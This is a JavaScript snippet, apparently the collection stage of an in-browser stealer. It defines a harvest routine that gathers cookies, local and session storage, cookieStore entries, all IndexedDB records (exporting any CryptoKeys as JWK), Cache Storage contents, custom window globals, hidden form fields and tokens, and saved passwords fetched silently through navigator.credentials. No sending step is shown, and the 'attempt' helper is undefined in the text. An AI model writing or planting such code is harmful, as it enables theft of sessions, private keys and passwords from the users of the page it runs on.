// A1: everything that a script can read without touching how the page works.
const strings = (value, depth = 3, seen = new Set()) => {
  if (typeof value === "string") return value.length > 7 ? [value] : [];
  if (!value || typeof value !== "object" || depth === 0 || seen.has(value)) return [];
  seen.add(value);
  const found = [];
  for (const key of Object.keys(value).slice(0, 200)) { try { found.push(...strings(value[key], depth - 1, seen)); } catch { /* a getter that throws */ } }
  return found;
};
const request = (asked) => new Promise((yes, no) => { asked.onsuccess = () => yes(asked.result); asked.onerror = () => no(asked.error); asked.onblocked = () => no(new Error("blocked")); });
const readDatabase = async (name) => {
  const db = await request(indexedDB.open(name));
  const rows = [];
  for (const store of db.objectStoreNames) {
    for (const row of await request(db.transaction(store).objectStore(store).getAll())) {
      rows.push(...strings(row, 4));
      for (const part of row && typeof row === "object" ? [row, ...Object.values(row)] : []) {
        for (const key of [part, part?.privateKey]) if (key instanceof CryptoKey) { try { rows.push(JSON.stringify(await crypto.subtle.exportKey("jwk", key))); } catch (error) { rows.push(`a key that cannot be exported: ${error.name}`); } }
      }
    }
  }
  db.close();
  return rows;
};
const globals = () => {
  const frame = document.createElement("iframe");
  document.body.append(frame);
  const usual = new Set(Object.getOwnPropertyNames(frame.contentWindow));
  frame.remove();
  return Object.getOwnPropertyNames(window).filter((name) => !usual.has(name)).flatMap((name) => { try { return strings(window[name]); } catch { return []; } });
};
const harvest = async () => {
  await attempt("cookies", async () => document.cookie);
  await attempt("storage", async () => ({ local: { ...localStorage }, session: { ...sessionStorage } }));
  await attempt("cookie-store", async () => (await cookieStore.getAll()).map((cookie) => cookie.value));
  await attempt("databases", async () => (await Promise.all((await indexedDB.databases()).map((db) => readDatabase(db.name)))).flat());
  await attempt("caches", async () => (await Promise.all((await caches.keys()).map(async (name) => { const cache = await caches.open(name); return Promise.all((await cache.keys()).map(async (key) => `${key.url} ${await (await cache.match(key)).text()}`)); }))).flat());
  await attempt("globals", async () => globals());
  await attempt("page", async () => [...document.querySelectorAll("input[type=hidden],meta,[data-token]")].map((node) => node.value || node.content || node.dataset.token).filter(Boolean));
  await attempt("credentials", async () => { const found = await navigator.credentials.get({ password: true, mediation: "silent" }); return found && [found.id, found.password]; });
};
